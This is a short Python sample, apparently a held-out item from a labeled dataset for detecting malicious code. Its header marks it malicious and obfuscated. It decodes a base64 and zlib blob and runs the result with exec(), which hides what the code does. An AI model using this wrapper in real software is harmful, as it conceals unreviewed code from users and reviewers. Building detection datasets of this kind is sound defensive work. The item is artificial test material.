# label: malicious; obfuscated: zlib,base64; evasion: indirect_exec; set: heldout2
import base64, zlib
exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2zi/WK64sLknN1VDKTFHSBAB9Wwjw")))
